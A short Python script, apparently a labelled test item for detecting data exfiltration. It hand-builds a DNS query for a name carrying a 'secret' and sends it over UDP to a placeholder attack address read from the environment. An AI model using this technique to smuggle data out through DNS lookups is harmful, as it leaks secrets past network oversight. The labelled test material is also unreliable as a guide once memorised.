# Asks a name server for a name that carries a secret.
# evidence: contact
# bare: works

import os
import socket

name = b"".join(bytes([len(part)]) + part for part in (b"secret", b"example", b"com"))
query = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + name + b"\x00\x00\x01\x00\x01"
for address in ("127.0.0.1", os.environ["ATTACK_ADDRESS"]):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (address, int(os.environ["ATTACK_UDP"])))
